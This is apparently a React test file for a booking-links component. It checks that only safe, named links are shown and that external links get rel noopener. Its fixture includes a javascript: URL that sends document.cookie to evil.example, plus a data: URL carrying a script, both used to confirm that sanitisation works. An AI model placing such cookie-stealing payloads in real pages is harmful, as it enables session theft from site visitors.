import { screen, within } from '@testing-library/react';
import { renderWithProviders, testBlockContext } from '@/__tests__/support/render';
import HanoverBookingLinks from './HanoverBookingLinks';
import { toHanoverBookingLinks, type RawHanoverBookingLinks } from './toHanoverBookingLinks';

const raw: RawHanoverBookingLinks = [
  { name: ' June 2026 departure ', url: 'https://booking.hanover.example/camp?intake=2026-06' },
  null,
  { name: 'Steal your session', url: 'javascript:fetch("//evil.example?c="+document.cookie)' },
  { name: 'July 2026 departure', url: '/gb/book/july-2026/' },
  { name: '  ', url: '/gb/book/august-2026/' },
  { name: 'Data', url: 'data:text/html,<script>alert(1)</script>' },
];

describe('HanoverBookingLinks', () => {
  it('lists the safe booking links under "Book your place", the #book anchor', () => {
    const { container } = renderWithProviders(
      <HanoverBookingLinks {...toHanoverBookingLinks(raw, testBlockContext())!} />,
    );
    const section = screen.getByRole('region', { name: 'Book your place' });
    expect(section).toBe(container.querySelector('#book'));
    const links = within(section).getAllByRole('link');
    expect(links.map((link) => [link.textContent, link.getAttribute('href')])).toEqual([
      ['June 2026 departure', 'https://booking.hanover.example/camp?intake=2026-06'],
      ['July 2026 departure', '/gb/book/july-2026/'],
    ]);
    expect(within(section).getAllByRole('listitem')).toHaveLength(2);
  });

  it('opens the external booking site with rel noopener, and internal links without', () => {
    renderWithProviders(<HanoverBookingLinks {...toHanoverBookingLinks(raw, testBlockContext())!} />);
    expect(screen.getByRole('link', { name: 'June 2026 departure' })).toHaveAttribute('rel', 'noopener noreferrer');
    expect(screen.getByRole('link', { name: 'July 2026 departure' })).not.toHaveAttribute('rel');
    expect(screen.queryByText('Steal your session')).not.toBeInTheDocument();
    expect(screen.queryByText('Data')).not.toBeInTheDocument();
  });

  it('is skipped without a safe, named link', () => {
    expect(toHanoverBookingLinks(null, testBlockContext())).toBeNull();
    expect(toHanoverBookingLinks(undefined, testBlockContext())).toBeNull();
    expect(
      toHanoverBookingLinks(
        [null, { name: 'x', url: 'javascript:void(0)' }, { name: '', url: '/ok/' }],
        testBlockContext(),
      ),
    ).toBeNull();
  });
});
